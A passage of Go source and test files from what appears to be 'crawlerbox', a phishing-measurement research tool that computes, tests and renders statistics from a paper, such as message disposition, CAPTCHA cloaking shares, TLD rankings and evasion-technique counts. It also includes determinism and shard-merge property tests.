		for _, t := range htmlxFind(v.Result) {
			return strings.ToUpper(t)
		}
	}
	return ""
}

// TurnstileShare returns the Turnstile and reCAPTCHA shares over the
// credential-harvesting messages (the paper's 74.4% / 24.8%).
func (r *Run) TurnstileShare() (turnstilePct, recaptchaPct float64) {
	var cred, ts, rc int
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish {
			continue
		}
		cred++
		if ma.Cloaks.Turnstile {
			ts++
		}
		if ma.Cloaks.ReCaptcha {
			rc++
		}
	}
	if cred == 0 {
		return 0, 0
	}
	return 100 * float64(ts) / float64(cred), 100 * float64(rc) / float64(cred)
}

// htmlxFind extracts title texts from a visit result.
func htmlxFind(res *browser.Result) []string {
	var out []string
	for _, n := range htmlx.Find(res.DOM, "title") {
		if t := strings.TrimSpace(n.InnerText()); t != "" {
			out = append(out, t)
		}
	}
	return out
}

func dedupe(xs []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, x := range xs {
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	return out
}
