package report

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"testing"

	"crawlerbox/internal/dataset"
	"crawlerbox/internal/resilience"
	"crawlerbox/internal/tracestore"
)

// faultyPolicy arms the recovery layer at the tracecheck fault rate so the
// store tests cover degraded visits and partial evidence, not just the
// clean path.
func faultyPolicy() *resilience.Policy {
	p := resilience.DefaultPolicy()
	p.FaultRate = 0.1
	return p
}

// writeStore analyzes the seeded corpus with the given worker count and
// persists the triage index, returning the segment path.
func writeStore(t *testing.T, dir string, workers int) string {
	t.Helper()
	path := filepath.Join(dir, "run.tstore")
	c, err := dataset.Stream(dataset.Config{Seed: 42, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	w, err := tracestore.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if _, err := Analyze(context.Background(), c,
		WithWorkers(workers),
		WithResilience(faultyPolicy()),
		WithTraceStore(w),
	); err != nil {
		t.Fatal(err)
	}
	return path
}

// queryAll runs a fixed set of canned queries and renders the results, so
// byte-comparison covers the query planner and the renderer, not just the
// raw segment.
func queryAll(t *testing.T, path string) string {
	t.Helper()
	st, err := tracestore.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var out bytes.Buffer
	for _, qs := range []string{
		"",
		"outcome=active-phishing",
		"outcome=partial-evidence",
		"outcome=error-page errkind=network",
		"stage=classify status=error",
		"cloak=turnstile",
		"adjudicable=false limit=5",
	} {
		q, err := tracestore.ParseQuery(qs)
		if err != nil {
			t.Fatal(err)
		}
		verdicts, err := st.Query(q)
		if err != nil {
			t.Fatal(err)
		}
		out.WriteString(tracestore.RenderVerdicts(q, verdicts))
		out.WriteString("\n")
	}
	out.WriteString(tracestore.RenderStats(st.Stats()))
	return out.String()
}

// TestTraceStoreWorkerDeterminism pins the tentpole's byte-identity
// contract under fault injection: the segment a workers=1 run finalizes is
// byte-for-byte the segment a workers=8 run finalizes, query results over
// both are identical, and compacting a segment reproduces it exactly
// (build-vs-compact identity). Run under -race this also exercises the
// concurrent Writer.Add handoff.
func TestTraceStoreWorkerDeterminism(t *testing.T) {
	serialPath := writeStore(t, t.TempDir(), 1)
	parallelPath := writeStore(t, t.TempDir(), 8)

	serial, err := os.ReadFile(serialPath)
	if err != nil {
		t.Fatal(err)
	}
	parallel, err := os.ReadFile(parallelPath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(serial, parallel) {
		t.Fatalf("segment bytes diverge between workers=1 (%d bytes) and workers=8 (%d bytes)",
			len(serial), len(parallel))
	}

	if qs, qp := queryAll(t, serialPath), queryAll(t, parallelPath); qs != qp {
		t.Errorf("query results diverge between worker counts:\n--- serial ---\n%s\n--- parallel ---\n%s", qs, qp)
	}

	compactPath := filepath.Join(t.TempDir(), "compacted.tstore")
	if err := tracestore.Compact(compactPath, serialPath); err != nil {
		t.Fatal(err)
	}
	compacted, err := os.ReadFile(compactPath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(serial, compacted) {
		t.Fatalf("compacting a finalized segment changed its bytes (%d -> %d)", len(serial), len(compacted))
	}
	if qs, qc := queryAll(t, serialPath), queryAll(t, compactPath); qs != qc {
		t.Errorf("query results diverge between built and compacted segments:\n--- built ---\n%s\n--- compacted ---\n%s", qs, qc)
	}
}

// TestReadjudicationEquivalence pins the adjudication contract: for every
// message in the seeded fault-injected corpus, re-deriving the verdict
// from the stored evidence facts (no crawl, no pipeline) reproduces the
// outcome the live Classify stage recorded. Parse-halted and failed
// messages are carried through as fixed facts and must match trivially.
func TestReadjudicationEquivalence(t *testing.T) {
	path := writeStore(t, t.TempDir(), 4)
	st, err := tracestore.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	if st.Len() == 0 {
		t.Fatal("empty store")
	}
	adjudicable := 0
	for _, id := range st.IDs() {
		r, err := st.Readjudicate(id)
		if err != nil {
			t.Fatal(err)
		}
		if !r.Match {
			t.Errorf("message %d: stored verdict %s/%s but re-adjudication derived %s/%s",
				id, r.StoredOutcome, r.StoredErrorKind, r.Outcome, r.ErrorKind)
		}
		if r.Adjudicable {
			adjudicable++
		}
	}
	if adjudicable == 0 {
		t.Error("no adjudicable messages in the corpus — the equivalence test is vacuous")
	}
}

// TestPathOptionsEquivalence pins the api redesign: the path-based options
// (lifecycle owned by Analyze) produce byte-identical artifacts to the
// deprecated caller-owned-object options.
func TestPathOptionsEquivalence(t *testing.T) {
	dir := t.TempDir()
	legacyPath := writeStore(t, dir, 4) // deprecated WithTraceStore

	c, err := dataset.Stream(dataset.Config{Seed: 42, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	pathStore := filepath.Join(dir, "bypath.tstore")
	evPath := filepath.Join(dir, "bypath.evidence")
	if _, err := Analyze(context.Background(), c,
		WithWorkers(4),
		WithResilience(faultyPolicy()),
		WithTraceStorePath(pathStore),
		WithEvidencePath(evPath),
	); err != nil {
		t.Fatal(err)
	}

	legacy, err := os.ReadFile(legacyPath)
	if err != nil {
		t.Fatal(err)
	}
	byPath, err := os.ReadFile(pathStore)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(legacy, byPath) {
		t.Fatalf("path-based trace store diverges from caller-owned writer (%d vs %d bytes)",
			len(legacy), len(byPath))
	}
	if fi, err := os.Stat(evPath); err != nil || fi.Size() == 0 {
		t.Fatalf("evidence store at %s: stat %v, want a non-empty file", evPath, err)
	}
}
