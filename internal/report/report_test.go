package report

import (
	"context"
	"strings"
	"testing"

	"crawlerbox/internal/crawler"
	"crawlerbox/internal/dataset"
)

// _sharedRun caches one analyzed corpus for all report tests (analysis over
// a quarter-scale corpus takes ~1s; regenerating per test would dominate).
var _sharedRun *Run

func sharedRun(t *testing.T) *Run {
	t.Helper()
	if _sharedRun == nil {
		c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.25})
		if err != nil {
			t.Fatal(err)
		}
		run, err := Analyze(context.Background(), c)
		if err != nil {
			t.Fatal(err)
		}
		_sharedRun = run
	}
	return _sharedRun
}

func TestAnalyzeNoHardErrors(t *testing.T) {
	run := sharedRun(t)
	if run.Errors != 0 {
		t.Errorf("analysis errors = %d", run.Errors)
	}
	if len(run.Analyses) != len(run.Corpus.Messages) {
		t.Errorf("analyses = %d, messages = %d", len(run.Analyses), len(run.Corpus.Messages))
	}
}

func TestDispositionMatchesPaperShape(t *testing.T) {
	run := sharedRun(t)
	rows := run.Disposition()
	want := map[string]float64{
		"no-web-resource":      49.6,
		"error-page":           15.9,
		"interaction-required": 4.5,
		"active-phishing":      29.9,
	}
	for _, row := range rows {
		target, ok := want[row.Label]
		if !ok {
			continue
		}
		if row.Percent < target-4 || row.Percent > target+4 {
			t.Errorf("%s = %.1f%%, paper reports %.1f%%", row.Label, row.Percent, target)
		}
	}
}

func TestSpearShareMatchesPaper(t *testing.T) {
	run := sharedRun(t)
	sp := run.Spear()
	if sp.SpearPercent < 65 || sp.SpearPercent > 82 {
		t.Errorf("spear share = %.1f%%, paper reports 73.3%%", sp.SpearPercent)
	}
	if sp.HotLoadPercent < 18 || sp.HotLoadPercent > 42 {
		t.Errorf("hot-load share = %.1f%%, paper reports 29.8%%", sp.HotLoadPercent)
	}
	if sp.MedianMsgsPerDomain != 1 {
		t.Errorf("median msgs/domain = %.1f, paper reports 1", sp.MedianMsgsPerDomain)
	}
	if sp.MaxMsgsPerDomain < 5 {
		t.Errorf("max msgs/domain = %d, expected a heavy hitter", sp.MaxMsgsPerDomain)
	}
}

func TestTurnstileShareMatchesPaper(t *testing.T) {
	run := sharedRun(t)
	ts, rc := run.TurnstileShare()
	if ts < 64 || ts > 85 {
		t.Errorf("Turnstile share = %.1f%%, paper reports 74.4%%", ts)
	}
	if rc < 15 || rc > 35 {
		t.Errorf("reCAPTCHA share = %.1f%%, paper reports 24.8%%", rc)
	}
	if rc >= ts {
		t.Error("reCAPTCHA rides on Turnstile and must be rarer")
	}
}

func TestTable2ComDominates(t *testing.T) {
	run := sharedRun(t)
	dist := run.Table2()
	if len(dist) == 0 {
		t.Fatal("empty TLD distribution")
	}
	if dist[0].TLD != ".com" {
		t.Errorf("top TLD = %s, paper reports .com (50.2%%)", dist[0].TLD)
	}
	if dist[0].Percent < 35 || dist[0].Percent > 65 {
		t.Errorf(".com share = %.1f%%", dist[0].Percent)
	}
	var sawRu bool
	for _, row := range dist[:min(4, len(dist))] {
		if row.TLD == ".ru" {
			sawRu = true
		}
	}
	if !sawRu {
		t.Error(".ru must rank in the top TLDs (paper: rank 2)")
	}
}

func TestFigure2DownwardTrendAndTTest(t *testing.T) {
	run := sharedRun(t)
	f2, err := run.Figure2()
	if err != nil {
		t.Fatal(err)
	}
	if f2.Mean2023 <= f2.Mean2024 {
		t.Errorf("2023 mean (%.1f) must exceed 2024 mean (%.1f)", f2.Mean2023, f2.Mean2024)
	}
	// The rank-paired comparison reaches high significance; the calendar
	// pairing cannot, given the published aggregates (see EXPERIMENTS.md).
	if f2.TTestRank.P >= 0.05 {
		t.Errorf("rank-paired t-test p = %.4f, want < 0.05 (paper reports 0.008)", f2.TTestRank.P)
	}
	if f2.TTest.MeanDif <= 0 {
		t.Errorf("calendar-paired mean difference = %.1f, want positive", f2.TTest.MeanDif)
	}
}

func TestFigure3TimelineShape(t *testing.T) {
	run := sharedRun(t)
	f3, err := run.Figure3()
	if err != nil {
		t.Fatal(err)
	}
	// Paper: medians 575 h (A) and 185 h (B); generous bands at 0.25 scale.
	if f3.MedianAHours < 350 || f3.MedianAHours > 950 {
		t.Errorf("median timedeltaA = %.0f h, paper reports 575", f3.MedianAHours)
	}
	if f3.MedianBHours < 100 || f3.MedianBHours > 320 {
		t.Errorf("median timedeltaB = %.0f h, paper reports 185", f3.MedianBHours)
	}
	if f3.MedianBHours >= f3.MedianAHours {
		t.Error("cert lead must be shorter than registration lead")
	}
	// Fat-tailed, right-skewed distributions.
	if f3.KurtosisA < 3 {
		t.Errorf("kurtosis A = %.1f, expected strongly fat-tailed", f3.KurtosisA)
	}
	// Far more registration outliers than certificate outliers (102 vs 5).
	if f3.OverA <= f3.OverB*3 {
		t.Errorf("overA=%d overB=%d: registration outliers must dominate", f3.OverA, f3.OverB)
	}
}

func TestDNSVolumeMediansLow(t *testing.T) {
	run := sharedRun(t)
	dns := run.DNSVolumes()
	// Paper: single 43.0 total / 18.5 max-daily; multi 100.5 / 50.5.
	if dns.SingleMedianTotal < 20 || dns.SingleMedianTotal > 80 {
		t.Errorf("single-domain median total = %.1f, paper reports 43.0", dns.SingleMedianTotal)
	}
	if dns.MultiMedianTotal <= dns.SingleMedianTotal {
		t.Error("multi-message domains must show higher DNS volume")
	}
	if len(dns.Top3Totals) == 0 || dns.Top3Totals[0] < 1_000_000 {
		t.Errorf("top DNS volume = %v, paper reports 665M", dns.Top3Totals)
	}
}

func TestDomainSyntaxMinority(t *testing.T) {
	run := sharedRun(t)
	syn := run.DomainSyntax()
	// The key finding: deceptive syntax is a small minority (15.7%).
	if syn.Percent > 30 {
		t.Errorf("deceptive share = %.1f%%, paper reports 15.7%%", syn.Percent)
	}
	if syn.Deceptive == 0 {
		t.Error("some deceptive domains must exist")
	}
	if syn.Punycode != 0 {
		t.Errorf("punycode = %d, paper reports none", syn.Punycode)
	}
}

func TestCloakPrevalenceOrdering(t *testing.T) {
	run := sharedRun(t)
	rows := run.CloakPrevalence()
	counts := map[string]int{}
	for _, r := range rows {
		counts[r.Technique] = r.Messages
	}
	if counts["turnstile"] == 0 {
		t.Fatal("turnstile missing from census")
	}
	if counts["turnstile"] < counts["recaptcha"] {
		t.Error("turnstile must outnumber recaptcha")
	}
	for _, name := range []string{"console-hijack", "hue-rotate", "noise-padding",
		"faulty-qr", "otp-prompt", "victim-check", "tokenized-url"} {
		if counts[name] == 0 {
			t.Errorf("technique %q absent from census", name)
		}
	}
	// Ratio check: console hijack (295 in paper) >> debugger timer (10).
	if counts["console-hijack"] <= counts["debugger-timer"] {
		t.Errorf("console=%d debugger=%d: ordering broken",
			counts["console-hijack"], counts["debugger-timer"])
	}
}

func TestRenderersProduceOutput(t *testing.T) {
	run := sharedRun(t)
	for name, text := range map[string]string{
		"disposition": run.RenderDisposition(),
		"figure2":     run.RenderFigure2(),
		"table2":      run.RenderTable2(),
		"figure3":     run.RenderFigure3(),
		"spear":       run.RenderSpear(),
		"cloaks":      run.RenderCloaks(),
	} {
		if len(strings.TrimSpace(text)) < 40 {
			t.Errorf("%s renderer output too short:\n%s", name, text)
		}
	}
}

func TestRenderTable1(t *testing.T) {
	a, err := crawler.RunAssessment(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	text := RenderTable1(a)
	if !strings.Contains(text, "NotABot") || !strings.Contains(text, "Turnstile") {
		t.Errorf("Table I render incomplete:\n%s", text)
	}
	if !strings.Contains(text, "v*") {
		t.Errorf("Table I should carry the headless footnote marker:\n%s", text)
	}
}

// TestAnalyzeParallelAggregatesBitwiseIdentical is the PR's acceptance
// criterion: running the corpus through the worker pool must yield rendered
// aggregates byte-identical to the serial run. Each run gets a fresh
// same-seed corpus because analysis mutates world state (harvested
// credentials, challenge tokens).
func TestAnalyzeParallelAggregatesBitwiseIdentical(t *testing.T) {
	render := func(workers int) string {
		c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.1})
		if err != nil {
			t.Fatal(err)
		}
		run, err := Analyze(context.Background(), c, WithWorkers(workers))
		if err != nil {
			t.Fatal(err)
		}
		if run.Errors != 0 {
			t.Fatalf("workers=%d: %d analysis errors", workers, run.Errors)
		}
		var sb strings.Builder
		for _, text := range []string{
			run.RenderDisposition(), run.RenderFigure2(), run.RenderTable2(),
			run.RenderFigure3(), run.RenderSpear(), run.RenderNonTargeted(),
			run.RenderCloaks(),
		} {
			sb.WriteString(text)
			sb.WriteByte('\n')
		}
		return sb.String()
	}
	serial := render(1)
	parallel := render(8)
	if serial != parallel {
		sl := strings.Split(serial, "\n")
		pl := strings.Split(parallel, "\n")
		for i := 0; i < len(sl) && i < len(pl); i++ {
			if sl[i] != pl[i] {
				t.Fatalf("aggregates diverge at line %d:\n  workers=1: %q\n  workers=8: %q",
					i, sl[i], pl[i])
			}
		}
		t.Fatalf("aggregates diverge in length: %d vs %d lines", len(sl), len(pl))
	}
}

func TestNonTargetedBrandBreakdown(t *testing.T) {
	run := sharedRun(t)
	rows := run.NonTargetedBrands()
	if len(rows) == 0 {
		t.Fatal("no non-targeted brands classified")
	}
	counts := map[string]int{}
	var total int
	for _, r := range rows {
		counts[r.Brand] = r.Domains
		total += r.Domains
	}
	// Generic Microsoft pages dominate the non-targeted set in the paper
	// (44 of 130); OTHER aggregates the webmail-style pages.
	if counts["MICROSOFT"] == 0 {
		t.Errorf("no generic Microsoft pages classified: %v", rows)
	}
	if counts["OTHER"] == 0 {
		t.Errorf("no OTHER pages classified: %v", rows)
	}
	if total < 5 {
		t.Errorf("only %d non-targeted domains classified", total)
	}
}
