package report

import (
	"context"
	"reflect"
	"sync"
	"testing"

	"crawlerbox/internal/dataset"
)

// shardFixture analyzes a small corpus once and exposes per-message folds so
// the property tests can rebuild shards any way they like.
var shardFixture struct {
	once sync.Once
	run  *Run
	err  error
}

func shardRun(t *testing.T) *Run {
	t.Helper()
	shardFixture.once.Do(func() {
		c, err := dataset.Generate(dataset.Config{Seed: 42, Scale: 0.1})
		if err != nil {
			shardFixture.err = err
			return
		}
		shardFixture.run, shardFixture.err = Analyze(context.Background(), c, WithWorkers(1))
	})
	if shardFixture.err != nil {
		t.Fatal(shardFixture.err)
	}
	return shardFixture.run
}

// foldShard builds a fresh shard from the messages/analyses whose index
// satisfies pick. Message folds and analysis folds travel together, the way
// Analyze's producer and workers split them.
func foldShard(r *Run, pick func(i int) bool) *CensusShard {
	s := NewCensusShard()
	for i := range r.Corpus.Messages {
		if pick(i) {
			s.AddMessage(&r.Corpus.Messages[i])
		}
	}
	for i, ma := range r.Analyses {
		if pick(i) {
			s.AddAnalysis(i, ma)
		}
	}
	return s
}

// TestMergeIdentity pins the identity element: merging an empty shard in —
// on either side — leaves the finalized census unchanged.
func TestMergeIdentity(t *testing.T) {
	r := shardRun(t)
	all := func(int) bool { return true }
	want := foldShard(r, all).finalize()

	left := NewCensusShard()
	left.Merge(foldShard(r, all))
	if !reflect.DeepEqual(left.finalize(), want) {
		t.Error("empty.Merge(s) diverges from s")
	}

	right := foldShard(r, all)
	right.Merge(NewCensusShard())
	if !reflect.DeepEqual(right.finalize(), want) {
		t.Error("s.Merge(empty) diverges from s")
	}
}

// TestMergeCommutative pins commutativity: partitioned shards merged in any
// order finalize to the same census as the single-shard fold.
func TestMergeCommutative(t *testing.T) {
	r := shardRun(t)
	want := foldShard(r, func(int) bool { return true }).finalize()

	parts := func() []*CensusShard {
		out := make([]*CensusShard, 3)
		for k := range out {
			k := k
			out[k] = foldShard(r, func(i int) bool { return i%3 == k })
		}
		return out
	}

	orders := [][]int{{0, 1, 2}, {2, 1, 0}, {1, 2, 0}, {2, 0, 1}}
	for _, order := range orders {
		shards := parts()
		acc := NewCensusShard()
		for _, k := range order {
			acc.Merge(shards[k])
		}
		if !reflect.DeepEqual(acc.finalize(), want) {
			t.Errorf("merge order %v diverges from the single-shard fold", order)
		}
	}
}

// TestMergeAssociative pins associativity: (A∪B)∪C and A∪(B∪C) finalize
// identically.
func TestMergeAssociative(t *testing.T) {
	r := shardRun(t)
	part := func(k int) *CensusShard {
		return foldShard(r, func(i int) bool { return i%3 == k })
	}

	leftAssoc := NewCensusShard()
	ab := part(0)
	ab.Merge(part(1))
	leftAssoc.Merge(ab)
	leftAssoc.Merge(part(2))

	rightAssoc := NewCensusShard()
	bc := part(1)
	bc.Merge(part(2))
	rightAssoc.Merge(part(0))
	rightAssoc.Merge(bc)

	if !reflect.DeepEqual(leftAssoc.finalize(), rightAssoc.finalize()) {
		t.Error("(A∪B)∪C diverges from A∪(B∪C)")
	}
}
