package report

import (
	"fmt"
	"strings"

	"crawlerbox/internal/crawler"
	"crawlerbox/internal/urlx"
)

// Month labels for Figure 2.
var _months = [10]string{"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct"}

// Each renderer delegates to an unexported formatting function over plain
// aggregate values. The split keeps formatting independent of how the
// aggregate was computed, which is what lets report_equiv_test.go assert
// byte-identical output between the memoized census and the original
// per-call scans.

// RenderDisposition formats the Section V message breakdown.
func (r *Run) RenderDisposition() string {
	return formatDisposition(r.Disposition())
}

func formatDisposition(rows []DispositionRow) string {
	var sb strings.Builder
	sb.WriteString("Message disposition (Section V)\n")
	sb.WriteString("-------------------------------\n")
	total := 0
	for _, row := range rows {
		fmt.Fprintf(&sb, "%-22s %6d  (%5.1f%%)\n", row.Label, row.Count, row.Percent)
		total += row.Count
	}
	fmt.Fprintf(&sb, "%-22s %6d\n", "total", total)
	return sb.String()
}

// RenderFigure2 formats the monthly volume series as an ASCII bar chart.
func (r *Run) RenderFigure2() string {
	f2, err := r.Figure2()
	return formatFigure2(r.MonthlySeries(), f2, err)
}

func formatFigure2(series [10]int, f2 Figure2Stats, err error) string {
	maxV := 1
	for _, v := range series {
		if v > maxV {
			maxV = v
		}
	}
	var sb strings.Builder
	sb.WriteString("Figure 2: scanned messages per month (Jan-Oct 2024)\n")
	sb.WriteString("---------------------------------------------------\n")
	for i, v := range series {
		bar := strings.Repeat("#", v*50/maxV)
		fmt.Fprintf(&sb, "%s %5d %s\n", _months[i], v, bar)
	}
	if err == nil {
		fmt.Fprintf(&sb, "mean=%.1f sd=%.1f  (2023 baseline mean=%.1f sd=%.1f)\n",
			f2.Mean2024, f2.Std2024, f2.Mean2023, f2.Std2023)
		fmt.Fprintf(&sb, "paired t-test: calendar p=%.4f, rank p=%.4f (paper: p=0.008)\n",
			f2.TTest.P, f2.TTestRank.P)
	}
	return sb.String()
}

// RenderTable2 formats the TLD distribution.
func (r *Run) RenderTable2() string {
	return formatTable2(r.Table2())
}

func formatTable2(rows []urlx.TLDCount) string {
	var sb strings.Builder
	sb.WriteString("Table II: phishing domains per TLD\n")
	sb.WriteString("----------------------------------\n")
	sb.WriteString("Rank  TLD        Domains\n")
	for i, row := range rows {
		if i >= 10 {
			// Collapse the tail like the paper's "Other" row.
			rest := 0
			var pct float64
			for _, rr := range rows[10:] {
				rest += rr.Count
				pct += rr.Percent
			}
			fmt.Fprintf(&sb, "%4d  %-9s %4d (%.1f%%)\n", 11, "Other", rest, pct)
			break
		}
		fmt.Fprintf(&sb, "%4d  %-9s %4d (%.1f%%)\n", i+1, row.TLD, row.Count, row.Percent)
	}
	return sb.String()
}

// RenderFigure3 formats the deployment-timeline histograms.
func (r *Run) RenderFigure3() string {
	f3, err := r.Figure3()
	return formatFigure3(f3, err)
}

func formatFigure3(f3 TimelineStats, err error) string {
	if err != nil {
		return "Figure 3: " + err.Error() + "\n"
	}
	var sb strings.Builder
	sb.WriteString("Figure 3: domain count per time delta under 90 days\n")
	sb.WriteString("----------------------------------------------------\n")
	sb.WriteString("days      (A) registration->delivery   (B) cert->delivery\n")
	for i := 0; i < 9; i++ {
		fmt.Fprintf(&sb, "%2d-%2d     %4d %-24s %4d %s\n",
			i*10, (i+1)*10,
			f3.HistA[i], strings.Repeat("#", min(f3.HistA[i], 24)),
			f3.HistB[i], strings.Repeat("#", min(f3.HistB[i], 24)))
	}
	fmt.Fprintf(&sb, ">90 days  %4d%30d\n", f3.OverA, f3.OverB)
	fmt.Fprintf(&sb, "median    %.0f h (~%.0f days)%15.0f h (~%.0f days)\n",
		f3.MedianAHours, f3.MedianAHours/24, f3.MedianBHours, f3.MedianBHours/24)
	fmt.Fprintf(&sb, "kurtosis  %.1f%31.1f\n", f3.KurtosisA, f3.KurtosisB)
	return sb.String()
}

// RenderSpear formats the spear-phishing classification summary.
func (r *Run) RenderSpear() string {
	return formatSpear(r.Spear(), r.DNSVolumes(), r.DomainSyntax())
}

func formatSpear(sp SpearStats, dns DNSStats, syn SyntaxStats) string {
	var sb strings.Builder
	sb.WriteString("Spear-phishing classification (Section V-A)\n")
	sb.WriteString("--------------------------------------------\n")
	fmt.Fprintf(&sb, "active phishing messages:       %d\n", sp.Active)
	fmt.Fprintf(&sb, "spear phishing (brand match):   %d (%.1f%%)\n", sp.Spear, sp.SpearPercent)
	fmt.Fprintf(&sb, "hot-loading brand assets:       %d (%.1f%% of spear)\n", sp.HotLoad, sp.HotLoadPercent)
	fmt.Fprintf(&sb, "distinct landing URLs:          %d\n", sp.DistinctURLs)
	fmt.Fprintf(&sb, "distinct landing domains:       %d\n", sp.DistinctDomains)
	fmt.Fprintf(&sb, "messages/domain mean=%.2f median=%.1f max=%d\n",
		sp.MeanMsgsPerDomain, sp.MedianMsgsPerDomain, sp.MaxMsgsPerDomain)
	fmt.Fprintf(&sb, "DNS volume (1-msg domains):     median total=%.1f max-daily=%.1f\n",
		dns.SingleMedianTotal, dns.SingleMedianMax)
	fmt.Fprintf(&sb, "DNS volume (multi-msg domains): median total=%.1f max-daily=%.1f\n",
		dns.MultiMedianTotal, dns.MultiMedianMax)
	fmt.Fprintf(&sb, "top DNS totals:                 %v\n", dns.Top3Totals)
	fmt.Fprintf(&sb, "deceptive domain syntax:        %d/%d (%.1f%%), punycode %d\n",
		syn.Deceptive, syn.Domains, syn.Percent, syn.Punycode)
	return sb.String()
}

// RenderCloaks formats the evasion-prevalence table.
func (r *Run) RenderCloaks() string {
	ts, rc := r.TurnstileShare()
	return formatCloaks(r.CloakPrevalence(), ts, rc)
}

func formatCloaks(rows []CloakRow, ts, rc float64) string {
	var sb strings.Builder
	sb.WriteString("Evasion technique prevalence (Section V-C)\n")
	sb.WriteString("-------------------------------------------\n")
	for _, row := range rows {
		fmt.Fprintf(&sb, "%-22s %5d messages\n", row.Technique, row.Messages)
	}
	fmt.Fprintf(&sb, "Turnstile share of credential harvesting: %.1f%%\n", ts)
	fmt.Fprintf(&sb, "reCAPTCHA share of credential harvesting: %.1f%%\n", rc)
	return sb.String()
}

// RenderNonTargeted formats the Section V-B brand breakdown.
func (r *Run) RenderNonTargeted() string {
	return formatNonTargeted(r.NonTargetedBrands())
}

func formatNonTargeted(rows []BrandRow) string {
	var sb strings.Builder
	sb.WriteString("Non-targeted impersonated brands (Section V-B, by page title)\n")
	sb.WriteString("--------------------------------------------------------------\n")
	for _, row := range rows {
		fmt.Fprintf(&sb, "%-18s %4d domains\n", row.Brand, row.Domains)
	}
	return sb.String()
}

// RenderTable1 formats the crawler assessment matrix.
func RenderTable1(a *crawler.Assessment) string {
	var sb strings.Builder
	sb.WriteString("Table I: crawlers vs bot-detection services (v = pass, x = detected)\n")
	sb.WriteString(strings.Repeat("-", 70) + "\n")
	fmt.Fprintf(&sb, "%-12s", "Tool")
	for _, k := range crawler.AllKinds {
		fmt.Fprintf(&sb, " %-12s", truncate(k.String(), 12))
	}
	sb.WriteString("\n")
	for _, det := range crawler.AllDetectors {
		fmt.Fprintf(&sb, "%-12s", det)
		for _, k := range crawler.AllKinds {
			cell := a.Cell(k, det)
			mark := "x"
			if cell.Passed {
				mark = "v"
				if cell.HeadlessOnlyFail {
					mark = "v*"
				}
			}
			fmt.Fprintf(&sb, " %-12s", mark)
		}
		sb.WriteString("\n")
	}
	sb.WriteString("(*) passes only in non-headless mode\n")
	return sb.String()
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-1] + "."
}
