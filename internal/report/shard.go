package report

import (
	"sort"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/whois"
)

// CensusShard is a partial census: the commutative fold of some subset of a
// run's messages and analyses. Each analysis worker folds its own shard and
// the shards are merged afterwards, so census state never needs the full
// analysis slice in memory.
//
// Every field is either a pure counter/sum, a set union, or an index-pinned
// min/max (first-seen picks the smallest message index, last-writer-wins
// picks the largest), which makes Merge commutative, associative, and
// identity-preserving — the merged shard is the same for any partition of
// the messages across workers and any merge order. The merge laws are
// asserted by property tests in shard_test.go; byte-identity of the derived
// aggregates against the legacy single-pass census is asserted in
// report_equiv_test.go.
type CensusShard struct {
	total         int
	outcomeCounts map[string]int
	cloakCounts   map[string]int
	// hosts maps each landing host (any outcome) to the smallest message
	// index that reached it, so finalize can replay first-seen order.
	hosts       map[string]int
	groups      map[string]*groupCell
	landingURLs map[string]bool
	active      int
	spear       int
	hotLoad     int
	cred        int
	turnstile   int
	recaptcha   int
	monthly     [10]int
	// minIdx is the smallest message index folded into this shard (-1 when
	// empty); Analyze merges shards in ascending minIdx order.
	minIdx int
}

// groupCell is the per-landing-domain partial: everything the timeline,
// DNS, spear, and brand aggregates need from a group of analyses, reduced
// to O(1) state with index-pinned first/last selections.
type groupCell struct {
	count   int
	sumUnix int64
	// reg/cert hold the WHOIS registration and certificate issuance from
	// the highest-indexed analysis that carried them (the legacy census
	// overwrote them in message order, so last writer wins).
	regIdx  int // -1 when no analysis carried WHOIS
	reg     time.Time
	certIdx int // -1 when no analysis carried a certificate
	cert    time.Time
	// first* mirror the group's lowest-indexed analysis, which anchors the
	// passive-DNS medians.
	firstIdx      int
	firstSkipDNS  bool
	firstDNSTotal int
	firstDNSMax   int
	// brandBucket classifies the lowest-indexed non-spear analysis's page
	// title (-1 when the group has no non-spear analysis).
	brandIdx    int
	brandBucket string
}

// NewCensusShard returns an empty shard — the identity element of Merge.
func NewCensusShard() *CensusShard {
	return &CensusShard{
		outcomeCounts: map[string]int{},
		cloakCounts:   map[string]int{},
		hosts:         map[string]int{},
		groups:        map[string]*groupCell{},
		landingURLs:   map[string]bool{},
		minIdx:        -1,
	}
}

// AddMessage folds one corpus message plan (the monthly series needs only
// delivery months, so the producer folds these while streaming specs out).
//
//cblint:hotpath
func (s *CensusShard) AddMessage(m *dataset.Message) {
	if m.Month >= 0 && m.Month < 10 {
		s.monthly[m.Month]++
	}
}

// AddAnalysis folds one completed analysis at its corpus index. It must run
// before bulky evidence (Visits) is spilled: hot-load detection and landing
// titles read the visit records.
//
//cblint:hotpath
func (s *CensusShard) AddAnalysis(idx int, ma *crawlerbox.MessageAnalysis) {
	if ma == nil {
		return
	}
	if s.minIdx < 0 || idx < s.minIdx {
		s.minIdx = idx
	}
	// Disposition: merge cloaked-benign into the error/inaccessible row the
	// way the paper's accounting does.
	s.total++
	label := ma.Outcome.String()
	if ma.Outcome == crawlerbox.OutcomeCloaked {
		label = crawlerbox.OutcomeError.String()
	}
	s.outcomeCounts[label]++

	// Evasion census (all messages, not just active phish).
	countCloaks(s.cloakCounts, ma)

	if ma.Landing != nil {
		if j, ok := s.hosts[ma.Landing.Host]; !ok || idx < j {
